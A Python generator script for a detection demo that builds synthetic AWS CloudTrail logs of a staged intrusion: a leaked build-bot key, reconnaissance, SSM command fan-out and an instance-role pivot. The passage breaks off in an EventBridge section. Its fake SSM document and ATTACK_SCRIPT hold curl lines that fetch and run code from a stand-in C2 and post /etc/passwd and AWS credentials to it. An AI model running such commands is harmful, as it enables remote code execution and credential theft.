#!/usr/bin/env python3
"""Writes the runwatch demo data set under infra/demo/ (see README.md there).

Deterministic: every id comes from a hash of a fixed name or from a seeded PRNG,
and gzip headers carry no timestamp, so running it twice gives byte-identical
files. Run it from anywhere:

    python3 infra/demo/generate.py

Only the standard library is used. Shapes follow the public samples and
documentation listed in README.md; this script is the single place the demo
values are defined, so edit here and regenerate rather than editing the output.
"""

from __future__ import annotations

import base64
import datetime as dt
import gzip
import hashlib
import io
import json
import random
import uuid
from pathlib import Path

HERE = Path(__file__).resolve().parent
RNG = random.Random(20261118)

# ---------------------------------------------------------------- helpers


def uid(name: str) -> str:
    """A stable, v4-shaped UUID derived from a name."""
    b = bytearray(hashlib.sha256(name.encode()).digest()[:16])
    b[6] = (b[6] & 0x0F) | 0x40
    b[8] = (b[8] & 0x3F) | 0x80
    return str(uuid.UUID(bytes=bytes(b)))


def rid() -> str:
    """A random (seeded) v4 UUID for noise records."""
    return str(uuid.UUID(int=RNG.getrandbits(128), version=4))


def hexs(n: int, name: str | None = None) -> str:
    if name is not None:
        return hashlib.sha256(name.encode()).hexdigest()[:n]
    return "".join(RNG.choice("0123456789abcdef") for _ in range(n))


def alnum(n: int, alphabet: str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") -> str:
    return "".join(RNG.choice(alphabet) for _ in range(n))


def T(s: str) -> dt.datetime:
    """'2026-11-18 03:07:12[.123456]' (UTC) -> aware datetime."""
    fmt = "%Y-%m-%d %H:%M:%S.%f" if "." in s else "%Y-%m-%d %H:%M:%S"
    return dt.datetime.strptime(s, fmt).replace(tzinfo=dt.timezone.utc)


def ct_time(t: dt.datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def ct_human(t: dt.datetime) -> str:
    """The 'Nov 18, 2026, 3:07:12 AM' form CloudTrail uses inside responseElements."""
    h = t.hour % 12 or 12
    return f"{t.strftime('%b')} {t.day}, {t.year}, {h}:{t.strftime('%M:%S')} {'AM' if t.hour < 12 else 'PM'}"


def iso7(t: dt.datetime) -> str:
    """Azure's 7-digit fraction: 2026-11-17T10:15:03.4829312Z."""
    return t.strftime("%Y-%m-%dT%H:%M:%S.%f") + f"{RNG.randrange(10)}Z"


def iso_ms(t: dt.datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


def iso_us(t: dt.datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def ticks(t: dt.datetime) -> int:
    """.NET ticks, as in Activity Log event ids."""
    epoch = dt.datetime(1970, 1, 1, tzinfo=dt.timezone.utc)
    return 621355968000000000 + int((t - epoch).total_seconds() * 10_000_000)


def jitter(t: dt.datetime, lo: float, hi: float) -> dt.datetime:
    return t + dt.timedelta(seconds=RNG.uniform(lo, hi))


def write_json(path: Path, obj, *, minified: bool = False) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if minified:
        text = json.dumps(obj, separators=(",", ":"), ensure_ascii=False)
    else:
        text = json.dumps(obj, indent=2, ensure_ascii=False) + "\n"
    path.write_text(text, encoding="utf-8")


def write_jsonl(path: Path, objs) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8") as f:
        for o in objs:
            f.write(json.dumps(o, separators=(",", ":"), ensure_ascii=False) + "\n")


def write_gz_json(path: Path, obj) -> None:
    """CloudTrail S3 delivery: one minified JSON line, gzip, no name/mtime in the header."""
    path.parent.mkdir(parents=True, exist_ok=True)
    raw = json.dumps(obj, separators=(",", ":"), ensure_ascii=False).encode("utf-8")
    buf = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0) as gz:
        gz.write(raw)
    path.write_bytes(buf.getvalue())


# ================================================================== AWS

ACCOUNT = "111122223333"
REGION = "us-east-1"
ATTACKER_IP = "203.0.113.66"
ATTACKER_IP_2 = "203.0.113.71"
C2 = "203.0.113.9"
OFFICE_IP = "198.51.100.42"
NAT_IP = "198.51.100.10"  # NAT gateway of the prod VPC: instance-originated calls
CI_IP = "192.0.2.140"  # the company's self-hosted CI runners (egress)

WEB = [
    "i-0a1b2c3d4e5f60718",
    "i-03f4e5d6c7b8a9012",
    "i-05a6b7c8d9e0f1a23",
    "i-07c8d9e0f1a2b3c45",
    "i-09e0f1a2b3c4d5e67",
    "i-0b1c2d3e4f5a6b789",
    "i-0c2d3e4f5a6b7c890",
    "i-0d3e4f5a6b7c8d901",
    "i-0e4f5a6b7c8d9e012",
    "i-0f5a6b7c8d9e0f123",
    "i-01a2b3c4d5e6f7a8b",
    "i-02b3c4d5e6f7a8b9c",
]
APP = "i-0b2c3d4e5f6a7b8c9"  # orders app server alice works on
DB = ["i-0d4e5f6a7b8c9d0e1", "i-0e5f6a7b8c9d0e1f2"]
PIVOT_SRC = WEB[0]
ATTACK_TARGETS = WEB[:6]
DEPLOY_TARGETS = WEB[:2]
MW_ID = "mw-0a1b2c3d4e5f60789"
MW_EXEC = uid("mw-exec-2026-11-18")

AGENT_UA = "aws-sdk-go/1.44.332 (go1.22.8; linux; amd64) amazon-ssm-agent/3.3.1142.0"
CLI_MAC = (
    "aws-cli/2.22.4 md/awscrt#0.22.0 ua/2.0 os/macos#24.1.0 md/arch#arm64 lang/python#3.12.6 "
    "md/pyimpl#CPython cfg/retry-mode#standard md/installer#source md/prompt#off md/command#{cmd}"
)
CLI_LINUX = (
    "aws-cli/2.22.4 md/awscrt#0.22.0 ua/2.0 os/linux#6.8.0-1018-aws md/arch#x86_64 lang/python#3.12.6 "
    "md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#ubuntu.24 md/prompt#off md/command#{cmd}"
)
CLI_ATTACKER = (
    "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali3-amd64 exe/x86_64.kali.2023 prompt/off command/{cmd}"
)
CLI_INSTANCE = (
    "aws-cli/2.22.4 md/awscrt#0.22.0 ua/2.0 os/linux#6.1.115-126.197.amzn2023.x86_64 md/arch#x86_64 "
    "lang/python#3.12.6 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#amzn.2023 "
    "md/prompt#off md/command#{cmd}"
)
BOTO_LAMBDA = "Boto3/1.35.54 md/Botocore#1.35.54 ua/2.0 os/linux#5.10.227-239.884.amzn2.x86_64 md/arch#x86_64 lang/python#3.12.7 md/pyimpl#CPython exec-env/AWS_Lambda_python3.12 cfg/retry-mode#legacy Botocore/1.35.54"


def ident_sso_alice(created: dt.datetime) -> dict:
    role = "AWSReservedSSO_AdministratorAccess_0123456789abcdef"
    return {
        "type": "AssumedRole",
        "principalId": "AROA4EXAMPLEALICE0SSO:alice@example.com",
        "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/alice@example.com",
        "accountId": ACCOUNT,
        "accessKeyId": "ASIA4EXAMPLEALICE001",
        "sessionContext": {
            "sessionIssuer": {
                "type": "Role",
                "principalId": "AROA4EXAMPLEALICE0SSO",
                "arn": f"arn:aws:iam::{ACCOUNT}:role/aws-reserved/sso.amazonaws.com/{role}",
                "accountId": ACCOUNT,
                "userName": role,
            },
            "webIdFederationData": {},
            "attributes": {"creationDate": ct_time(created), "mfaAuthenticated": "false"},
        },
    }


def ident_build_bot() -> dict:
    return {
        "type": "IAMUser",
        "principalId": "AIDA4EXAMPLEBUILDBOT1",
        "arn": f"arn:aws:iam::{ACCOUNT}:user/build-bot",
        "accountId": ACCOUNT,
        "accessKeyId": "AKIAIOSFODNN7EXAMPLE",
        "userName": "build-bot",
    }


def ident_role(role: str, session: str, key: str, created: dt.datetime, *, web_id: dict | None = None,
               invoked_by: str | None = None, principal: str | None = None) -> dict:
    principal = principal or ("AROA4" + hashlib.sha256(role.encode()).hexdigest()[:15].upper())
    d = {
        "type": "AssumedRole",
        "principalId": f"{principal}:{session}",
        "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{session}",
        "accountId": ACCOUNT,
        "accessKeyId": key,
        "sessionContext": {
            "sessionIssuer": {
                "type": "Role",
                "principalId": principal,
                "arn": f"arn:aws:iam::{ACCOUNT}:role/{role}",
                "accountId": ACCOUNT,
                "userName": role,
            },
            "webIdFederationData": web_id or {},
            "attributes": {"creationDate": ct_time(created), "mfaAuthenticated": "false"},
        },
    }
    if role == "web-instance-role":
        d["sessionContext"]["ec2RoleDelivery"] = "2.0"
    if invoked_by:
        d["invokedBy"] = invoked_by
    return d


def ident_instance(instance: str, t: dt.datetime) -> dict:
    key = "ASIA4" + hashlib.sha256(instance.encode()).hexdigest()[:15].upper()
    return ident_role("web-instance-role", instance, key, t.replace(minute=0, second=0) - dt.timedelta(hours=1))


def ident_lambda(t: dt.datetime) -> dict:
    return ident_role("order-processor-role", "order-processor", "ASIA4EXAMPLELAMBDA01",
                      t.replace(second=0) - dt.timedelta(minutes=7))


def ident_gha(t: dt.datetime) -> dict:
    return ident_role(
        "github-actions-deploy", "GitHubActions", "ASIA4EXAMPLEGHACTION",
        t - dt.timedelta(seconds=41),
        web_id={
            "federatedProvider": f"arn:aws:iam::{ACCOUNT}:oidc-provider/token.actions.githubusercontent.com",
            "attributes": {},
        },
    )


def ident_patch(t: dt.datetime) -> dict:
    return ident_role("PatchAutomation", MW_EXEC, "ASIA4EXAMPLEPATCHAUT", t - dt.timedelta(seconds=6),
                      invoked_by="ssm.amazonaws.com")


def ct_record(t: dt.datetime, source: str, name: str, ident: dict, ip: str, ua: str, req, resp, *,
              read_only: bool, event_id: str | None = None, request_id: str | None = None,
              version: str = "1.09", host: str | None = None, error: tuple[str, str] | None = None,
              extra: dict | None = None) -> dict:
    svc = source.split(".")[0]
    r = {
        "eventVersion": version,
        "userIdentity": ident,
        "eventTime": ct_time(t),
        "eventSource": source,
        "eventName": name,
        "awsRegion": REGION,
        "sourceIPAddress": ip,
        "userAgent": ua,
    }
    if error:
        r["errorCode"], r["errorMessage"] = error
    r["requestParameters"] = req
    r["responseElements"] = resp
    r["requestID"] = request_id or rid()
    r["eventID"] = event_id or rid()
    r["readOnly"] = read_only
    if extra:
        r.update({k: v for k, v in extra.items() if k not in ("eventType", "managementEvent", "eventCategory")})
    r["eventType"] = (extra or {}).get("eventType", "AwsApiCall")
    r["managementEvent"] = (extra or {}).get("managementEvent", True)
    r["recipientAccountId"] = ACCOUNT
    r["eventCategory"] = (extra or {}).get("eventCategory", "Management")
    if ip.endswith(".amazonaws.com"):
        return r  # AWS service calls carry no tlsDetails
    r["tlsDetails"] = {
        "tlsVersion": "TLSv1.3",
        "cipherSuite": "TLS_AES_128_GCM_SHA256",
        "clientProvidedHostHeader": host or f"{svc}.{REGION}.amazonaws.com",
    }
    return r


def send_command(t: dt.datetime, ident: dict, ip: str, ua: str, *, command_id: str, document: str,
                 instance_ids: list[str] | None = None, targets: list[dict] | None = None,
                 target_count: int | None = None, comment: str = "", max_conc: str = "50",
                 max_err: str = "0", timeout: int = 3600, s3_bucket: str = "",
                 event_id: str, denied: str | None = None) -> dict:
    req = {"documentName": document}
    if instance_ids is not None:
        req["instanceIds"] = instance_ids
    if targets is not None:
        req["targets"] = targets
    if comment:
        req["comment"] = comment
    if max_conc != "50":
        req["maxConcurrency"] = max_conc
    if max_err != "0":
        req["maxErrors"] = max_err
    if s3_bucket:
        req["outputS3BucketName"] = s3_bucket
    req["interactive"] = False
    req["parameters"] = "HIDDEN_DUE_TO_SECURITY_REASONS"
    if denied:
        return ct_record(t, "ssm.amazonaws.com", "SendCommand", ident, ip, ua, req, None, read_only=False,
                         event_id=event_id, error=("AccessDenied", denied))
    resp = {
        "command": {
            "alarmConfiguration": {"alarms": [], "ignorePollAlarmFailure": False},
            "clientName": "",
            "clientSourceId": "",
            "cloudWatchOutputConfig": {"cloudWatchLogGroupName": "", "cloudWatchOutputEnabled": False},
            "commandId": command_id,
            "comment": comment,
            "completedCount": 0,
            "deliveryTimedOutCount": 0,
            "documentName": document,
            "documentVersion": "$DEFAULT",
            "errorCount": 0,
            "expiresAfter": ct_human(t + dt.timedelta(seconds=timeout + 3600)),
            "hasCancelCommandSignature": False,
            "hasSendCommandSignature": False,
            "instanceIds": instance_ids or [],
            "interactive": False,
            "maxConcurrency": max_conc,
            "maxErrors": max_err,
            "notificationConfig": {"notificationArn": "", "notificationEvents": [], "notificationType": ""},
            "outputS3BucketName": s3_bucket,
            "outputS3KeyPrefix": "",
            "outputS3Region": REGION,
            "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS",
            "requestedDateTime": ct_human(t),
            "serviceRole": "",
            "status": "Pending",
            "statusDetails": "Pending",
            "targetCount": target_count if target_count is not None else len(instance_ids or []),
            "targets": targets or [],
            "timeoutSeconds": timeout,
            "triggeredAlarms": [],
        }
    }
    return ct_record(t, "ssm.amazonaws.com", "SendCommand", ident, ip, ua, req, resp, read_only=False,
                     event_id=event_id)


# ------------------------------------------------------------- AWS noise


def n_update_instance_info(t):
    inst = RNG.choice(WEB + [APP] + DB)
    az = RNG.choice(["us-east-1a", "us-east-1b"])
    req = {
        "instanceId": inst,
        "agentVersion": "3.3.1142.0",
        "agentStatus": "Active",
        "platformType": "Linux",
        "platformName": "Amazon Linux",
        "platformVersion": "2023",
        "agentName": "amazon-ssm-agent",
        "availabilityZone": az,
        "availabilityZoneId": {"us-east-1a": "use1-az2", "us-east-1b": "use1-az4"}[az],
        "sSMConnectionChannel": "ssmmessages",
    }
    return ct_record(t, "ssm.amazonaws.com", "UpdateInstanceInformation", ident_instance(inst, t), NAT_IP,
                     AGENT_UA, req, None, read_only=False)


def n_list_instance_associations(t):
    inst = RNG.choice(WEB + [APP] + DB)
    return ct_record(t, "ssm.amazonaws.com", "ListInstanceAssociations", ident_instance(inst, t), NAT_IP,
                     AGENT_UA, {"instanceId": inst, "maxResults": 20}, None, read_only=True)


def n_describe_instances(t, ident=None, ip=OFFICE_IP, ua=None):
    ident = ident or ident_lambda(t)
    if ua is None:
        ua = BOTO_LAMBDA if ident["arn"].endswith("/order-processor") else CLI_MAC.format(cmd="ec2.describe-instances")
    if ip == OFFICE_IP and ident["arn"].endswith("/order-processor"):
        ip = NAT_IP
    req = {"instancesSet": {}, "filterSet": {"items": [{"name": "tag:App", "valueSet": {"items": [{"value": "orders"}]}}]}}
    return ct_record(t, "ec2.amazonaws.com", "DescribeInstances", ident, ip, ua, req, None, read_only=True)


def n_s3_get(t):
    key = f"incoming/2026/11/{t.day:02d}/order-{RNG.randrange(10**7, 10**8)}.json"
    bucket = "example-orders-data"
    req = {"bucketName": bucket, "Host": f"{bucket}.s3.{REGION}.amazonaws.com", "key": key}
    extra = {
        "additionalEventData": {
            "SignatureVersion": "SigV4",
            "CipherSuite": "TLS_AES_128_GCM_SHA256",
            "bytesTransferredIn": 0,
            "AuthenticationMethod": "AuthHeader",
            "x-amz-id-2": base64.b64encode(RNG.randbytes(45)).decode(),
            "bytesTransferredOut": RNG.randrange(900, 9000),
        },
        "resources": [
            {"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{bucket}/{key}"},
            {"accountId": ACCOUNT, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket}"},
        ],
        "managementEvent": False,
        "eventCategory": "Data",
    }
    return ct_record(t, "s3.amazonaws.com", "GetObject", ident_lambda(t), NAT_IP, BOTO_LAMBDA, req, None,
                     read_only=True, version="1.10", host=f"{bucket}.s3.{REGION}.amazonaws.com", extra=extra,
                     request_id=alnum(16, "ABCDEF0123456789"))


def n_assume_role(t):
    role_arn = f"arn:aws:iam::{ACCOUNT}:role/order-processor-role"
    ident = {"type": "AWSService", "invokedBy": "lambda.amazonaws.com"}
    req = {"roleArn": role_arn, "roleSessionName": "order-processor"}
    resp = {
        "credentials": {
            "accessKeyId": "ASIA4EXAMPLELAMBDA01",
            "sessionToken": "IQoJb3JpZ2luX2VjEXAMPLE" + alnum(40, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"),
            "expiration": ct_human(t + dt.timedelta(hours=12)),
        },
        "assumedRoleUser": {
            "assumedRoleId": "AROA4" + hashlib.sha256(b"order-processor-role").hexdigest()[:15].upper() + ":order-processor",
            "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/order-processor-role/order-processor",
        },
    }
    extra = {
        "resources": [{"accountId": ACCOUNT, "type": "AWS::IAM::Role", "ARN": role_arn}],
        "sharedEventID": rid(),
    }
    return ct_record(t, "sts.amazonaws.com", "AssumeRole", ident, "lambda.amazonaws.com", "lambda.amazonaws.com",
                     req, resp, read_only=True, version="1.08", extra=extra)


def n_kms_decrypt(t):
    key_arn = f"arn:aws:kms:{REGION}:{ACCOUNT}:key/{uid('kms-orders-key')}"
    req = {
        "encryptionContext": {"PARAMETER_ARN": f"arn:aws:ssm:{REGION}:{ACCOUNT}:parameter/prod/orders/db-password"},
        "encryptionAlgorithm": "SYMMETRIC_DEFAULT",
    }
    ident = ident_lambda(t)
    ident["invokedBy"] = "ssm.amazonaws.com"
    extra = {"resources": [{"accountId": ACCOUNT, "type": "AWS::KMS::Key", "ARN": key_arn}]}
    return ct_record(t, "kms.amazonaws.com", "Decrypt", ident, "ssm.amazonaws.com", "ssm.amazonaws.com", req,
                     None, read_only=True, version="1.09", extra=extra)


def n_get_parameter(t):
    req = {"name": RNG.choice(["/prod/orders/db-password", "/prod/orders/api-endpoint"]), "withDecryption": True}
    return ct_record(t, "ssm.amazonaws.com", "GetParameter", ident_lambda(t), NAT_IP, BOTO_LAMBDA, req, None,
                     read_only=True)


def n_describe_instance_information(t, ident=None, ip=OFFICE_IP, ua=None):
    ident = ident or ident_sso_alice(t - dt.timedelta(minutes=40))
    ua = ua or CLI_MAC.format(cmd="ssm.describe-instance-information")
    req = {"filters": [{"key": "InstanceIds", "values": [RNG.choice(WEB + [APP])]}]}
    return ct_record(t, "ssm.amazonaws.com", "DescribeInstanceInformation", ident, ip, ua, req, None,
                     read_only=True)


def n_get_caller_identity(t, ident, ip, ua):
    return ct_record(t, "sts.amazonaws.com", "GetCallerIdentity", ident, ip, ua, None, None, read_only=True,
                     version="1.08")


def n_get_command_invocation(t, ident, ip, ua, command_id, instance):
    return ct_record(t, "ssm.amazonaws.com", "GetCommandInvocation", ident, ip, ua,
                     {"commandId": command_id, "instanceId": instance}, None, read_only=True)


def background(start: dt.datetime, end: dt.datetime, n: int, day_shift: bool) -> list[dict]:
    kinds = [n_update_instance_info, n_list_instance_associations, n_s3_get, n_kms_decrypt, n_get_parameter,
             n_assume_role, n_describe_instances]
    weights = [5, 3, 6, 2, 2, 1, 1]
    if day_shift:
        kinds.append(n_describe_instance_information)
        weights.append(1)
    span = (end - start).total_seconds()
    out = []
    for _ in range(n):
        t = start + dt.timedelta(seconds=int(RNG.uniform(0, span)))
        out.append(RNG.choices(kinds, weights)[0](t))
    return out


def settle(records: list[dict]) -> list[dict]:
    """Sort by time, then swap a few neighbours: CloudTrail files are only roughly ordered."""
    records.sort(key=lambda r: r["eventTime"])
    for i in range(2, len(records) - 1, 9):
        records[i], records[i + 1] = records[i + 1], records[i]
    return records


AWS_CMD = {
    "alice_session": "alice@example.com-" + alnum(26, "abcdefghijklmnopqrstuvwxyz234567"),
    "deploy": uid("cmd-build-bot-deploy-2026-11-17"),
    "alice_cmd": uid("cmd-alice-restart-2026-11-17"),
    "assoc": uid("assoc-cloudwatch-agent-web"),
    "patch": uid("cmd-patch-web-2026-11-18"),
    "attack": uid("cmd-build-bot-attack-2026-11-18"),
    "pivot": uid("cmd-pivot-web-instance-role"),
    "staged": uid("cmd-staged-ops-collectdiagnostics"),
}
AWS_EVT = {k: uid("evt-" + k) for k in
           ("start_session", "terminate_session", "deploy", "alice_cmd", "assoc", "patch", "denied1", "denied2",
            "attack", "create_doc", "pivot", "staged")}

STAGED_DOC_NAME = "Ops-CollectDiagnostics"
STAGED_DOC = json.dumps({
    "schemaVersion": "2.2",
    "description": "Collect diagnostics",
    "parameters": {},
    "mainSteps": [{
        "action": "aws:runShellScript",
        "name": "collect",
        "inputs": {"runCommand": [
            f"curl -s http://{C2}/d.sh -o /tmp/.d && chmod +x /tmp/.d && /tmp/.d",
            "cat /etc/passwd /root/.aws/credentials 2>/dev/null | curl -s -X POST --data-binary @- "
            f"http://{C2}/u",
        ]},
    }],
}, indent=2)
ATTACK_SCRIPT = f"curl -s http://{C2}/x | bash"


def aws_files() -> tuple[dict[str, list[dict]], dict]:
    files = {}

    # ---- Tue 2026-11-17, release afternoon (file delivered 14:35Z) ----------------------
    w0, w1 = T("2026-11-17 14:30:00"), T("2026-11-17 14:34:59")
    alice_created = T("2026-11-17 13:52:18")
    recs = background(w0, w1, 54, True)
    t = T("2026-11-17 14:30:48")
    recs.append(n_describe_instance_information(t, ident_sso_alice(alice_created), OFFICE_IP,
                                                CLI_MAC.format(cmd="ssm.describe-instance-information")))
    sid = AWS_CMD["alice_session"]
    t = T("2026-11-17 14:31:05")
    recs.append(ct_record(
        t, "ssm.amazonaws.com", "StartSession", ident_sso_alice(alice_created), OFFICE_IP,
        CLI_MAC.format(cmd="ssm.start-session"), {"target": APP},
        {
            "sessionId": sid,
            "tokenValue": "Value hidden due to security reasons.",
            "streamUrl": f"wss://ssmmessages.{REGION}.amazonaws.com/v1/data-channel/{sid}"
                         f"?role=publish_subscribe&cell-number={base64.b64encode(RNG.randbytes(72)).decode()}",
        }, read_only=False, event_id=AWS_EVT["start_session"]))
    t = T("2026-11-17 14:32:10")
    recs.append(send_command(
        t, ident_build_bot(), CI_IP, CLI_LINUX.format(cmd="ssm.send-command"), command_id=AWS_CMD["deploy"],
        document="AWS-RunShellScript", instance_ids=DEPLOY_TARGETS, comment="deploy orders-web 2026.11.17-3",
        event_id=AWS_EVT["deploy"]))
    recs.append(n_get_command_invocation(T("2026-11-17 14:32:41"), ident_build_bot(), CI_IP,
                                         CLI_LINUX.format(cmd="ssm.get-command-invocation"), AWS_CMD["deploy"],
                                         DEPLOY_TARGETS[0]))
    recs.append(n_get_command_invocation(T("2026-11-17 14:32:42"), ident_build_bot(), CI_IP,
                                         CLI_LINUX.format(cmd="ssm.get-command-invocation"), AWS_CMD["deploy"],
                                         DEPLOY_TARGETS[1]))
    t = T("2026-11-17 14:33:40")
    recs.append(send_command(
        t, ident_sso_alice(alice_created), OFFICE_IP, CLI_MAC.format(cmd="ssm.send-command"),
        command_id=AWS_CMD["alice_cmd"], document="AWS-RunShellScript", instance_ids=[APP],
        comment="restart orders-worker after config change", event_id=AWS_EVT["alice_cmd"]))
    t = T("2026-11-17 14:34:22")
    tgt = [{"key": "tag:PatchGroup", "values": ["web"]}]
    recs.append(ct_record(
        t, "ssm.amazonaws.com", "CreateAssociation", ident_gha(t), CI_IP,
        CLI_LINUX.format(cmd="ssm.create-association"),
        {
            "name": "AWS-ConfigureAWSPackage",
            "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS",
            "targets": tgt,
            "scheduleExpression": "rate(30 days)",
            "associationName": "install-cloudwatch-agent-web",
        },
        {
            "associationDescription": {
                "name": "AWS-ConfigureAWSPackage",
                "associationVersion": "1",
                "date": ct_human(t),
                "lastUpdateAssociationDate": ct_human(t),
                "overview": {"status": "Pending", "detailedStatus": "Creating"},
                "documentVersion": "$DEFAULT",
                "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS",
                "associationId": AWS_CMD["assoc"],
                "targets": tgt,
                "scheduleExpression": "rate(30 days)",
                "associationName": "install-cloudwatch-agent-web",
                "applyOnlyAtCronInterval": False,
            }
        }, read_only=False, event_id=AWS_EVT["assoc"]))
    t = T("2026-11-17 14:34:50")
    recs.append(ct_record(t, "ssm.amazonaws.com", "TerminateSession", ident_sso_alice(alice_created), OFFICE_IP,
                          CLI_MAC.format(cmd="ssm.terminate-session"), {"sessionId": sid}, {"sessionId": sid},
                          read_only=False, event_id=AWS_EVT["terminate_session"]))
    files[f"{ACCOUNT}_CloudTrail_{REGION}_20261117T1435Z_Hq7Vd2RkLm9Pz4Xa.json.gz"] = settle(recs)

    # ---- Wed 2026-11-18 02:00 maintenance window (file delivered 02:05Z) ------------------
    w0, w1 = T("2026-11-18 02:00:00"), T("2026-11-18 02:04:59")
    recs = background(w0, w1, 44, False)
    t = T("2026-11-18 02:00:07")
    recs.append(send_command(
        t, ident_patch(t), "ssm.amazonaws.com", "ssm.amazonaws.com", command_id=AWS_CMD["patch"],
        document="AWS-RunPatchBaseline", targets=[{"key": "tag:PatchGroup", "values": ["web"]}],
        target_count=12, comment=f"Maintenance window {MW_ID} patch-web", max_conc="25%", max_err="10%",
        timeout=7200, s3_bucket="example-ssm-patch-logs", event_id=AWS_EVT["patch"]))
    files[f"{ACCOUNT}_CloudTrail_{REGION}_20261118T0205Z_Ty3Wn8CqZe5Jb1Rs.json.gz"] = settle(recs)

    # ---- Wed 2026-11-18 03:00-03:05: recon and two denied attempts ------------------------
    w0, w1 = T("2026-11-18 03:00:00"), T("2026-11-18 03:04:59")
    recs = background(w0, w1, 47, False)
    bb, ua = ident_build_bot(), CLI_ATTACKER
    recs.append(n_get_caller_identity(T("2026-11-18 03:00:14"), bb, ATTACKER_IP, ua.format(cmd="sts.get-caller-identity")))
    recs.append(n_describe_instances(T("2026-11-18 03:00:31"), bb, ATTACKER_IP, ua.format(cmd="ec2.describe-instances")))
    recs.append(n_describe_instance_information(T("2026-11-18 03:01:05"), bb, ATTACKER_IP,
                                                ua.format(cmd="ssm.describe-instance-information")))
    recs.append(ct_record(T("2026-11-18 03:01:40"), "ssm.amazonaws.com", "ListDocuments", bb, ATTACKER_IP,
                          ua.format(cmd="ssm.list-documents"),
                          {"filters": [{"key": "Owner", "values": ["Self"]}]}, None, read_only=True))

    def deny_msg(inst):
        return (f"User: arn:aws:iam::{ACCOUNT}:user/build-bot is not authorized to perform: ssm:SendCommand on "
                f"resource: arn:aws:ec2:{REGION}:{ACCOUNT}:instance/{inst} because no identity-based policy "
                f"allows the ssm:SendCommand action")

    recs.append(send_command(T("2026-11-18 03:02:51"), bb, ATTACKER_IP, ua.format(cmd="ssm.send-command"),
                             command_id="", document="AWS-RunShellScript", instance_ids=[DB[0]],
                             event_id=AWS_EVT["denied1"], denied=deny_msg(DB[0])))
    recs.append(send_command(T("2026-11-18 03:03:38"), bb, ATTACKER_IP, ua.format(cmd="ssm.send-command"),
                             command_id="", document="AWS-RunShellScript", instance_ids=DB,
                             event_id=AWS_EVT["denied2"], denied=deny_msg(DB[0])))
    files[f"{ACCOUNT}_CloudTrail_{REGION}_20261118T0305Z_demo.json.gz"] = settle(recs)

    # ---- Wed 2026-11-18 03:05-03:15: fan-out, staging, pivot -----------------------------
    w0, w1 = T("2026-11-18 03:05:00"), T("2026-11-18 03:14:59")
    recs = background(w0, w1, 58, False)
    attack_rec = send_command(T("2026-11-18 03:07:12"), bb, ATTACKER_IP, ua.format(cmd="ssm.send-command"),
                              command_id=AWS_CMD["attack"], document="AWS-RunShellScript",
                              instance_ids=ATTACK_TARGETS, event_id=AWS_EVT["attack"])
    recs.append(attack_rec)
    for i, inst in enumerate(ATTACK_TARGETS[:3]):
        recs.append(n_get_command_invocation(T("2026-11-18 03:07:49") + dt.timedelta(seconds=i), bb, ATTACKER_IP,
                                             ua.format(cmd="ssm.get-command-invocation"), AWS_CMD["attack"], inst))
    t = T("2026-11-18 03:09:41")
    recs.append(ct_record(
        t, "ssm.amazonaws.com", "CreateDocument", bb, ATTACKER_IP, ua.format(cmd="ssm.create-document"),
        {"content": STAGED_DOC, "name": STAGED_DOC_NAME, "documentType": "Command", "documentFormat": "JSON"},
        {
            "documentDescription": {
                "hash": hashlib.sha256(STAGED_DOC.encode()).hexdigest(),
                "hashType": "Sha256",
                "name": STAGED_DOC_NAME,
                "owner": ACCOUNT,
                "createdDate": ct_human(t),
                "status": "Creating",
                "documentVersion": "1",
                "description": "Collect diagnostics",
                "parameters": [],
                "platformTypes": ["Linux", "MacOS"],
                "documentType": "Command",
                "schemaVersion": "2.2",
                "latestVersion": "1",
                "defaultVersion": "1",
                "documentFormat": "JSON",
                "tags": [],
            }
        }, read_only=False, event_id=AWS_EVT["create_doc"]))
    recs.append(ct_record(T("2026-11-18 03:10:02"), "ssm.amazonaws.com", "DescribeDocument", bb, ATTACKER_IP,
                          ua.format(cmd="ssm.describe-document"), {"name": STAGED_DOC_NAME}, None, read_only=True))
    # pivot: the web instance's own role credentials, used from the instance (egress via NAT)
    t = T("2026-11-18 03:10:50")
    pid = ident_instance(PIVOT_SRC, t)
    recs.append(n_get_caller_identity(t, pid, NAT_IP, CLI_INSTANCE.format(cmd="sts.get-caller-identity")))
    t = T("2026-11-18 03:11:27")
    recs.append(send_command(t, ident_instance(PIVOT_SRC, t), NAT_IP, CLI_INSTANCE.format(cmd="ssm.send-command"),
                             command_id=AWS_CMD["pivot"], document="AWS-RunShellScript", instance_ids=[DB[0]],
                             event_id=AWS_EVT["pivot"]))
    t = T("2026-11-18 03:13:55")
    recs.append(send_command(t, bb, ATTACKER_IP, ua.format(cmd="ssm.send-command"), command_id=AWS_CMD["staged"],
                             document=STAGED_DOC_NAME, targets=[{"key": "tag:PatchGroup", "values": ["web"]}],
                             target_count=12, event_id=AWS_EVT["staged"]))
    files[f"{ACCOUNT}_CloudTrail_{REGION}_20261118T0315Z_Bk6Ys0FgUw3Ni8Mc.json.gz"] = settle(recs)
    return files, attack_rec


def eventbridge(attack_rec: dict) -> dict:
    out = {}
    # the attack SendCommand as EventBridge delivers it (same CloudTrail record, same eventID)
    out["aws-api-call-via-cloudtrail-sendcommand.json"] = {
        "version": "0",
        "id": uid("eb-cloudtrail-attack"),
        "detail-type": "AWS API Call via CloudTrail",
        "source": "aws.ssm",
        "account": ACCOUNT,
        "time": attack_rec["eventTime"],
        "region": REGION,
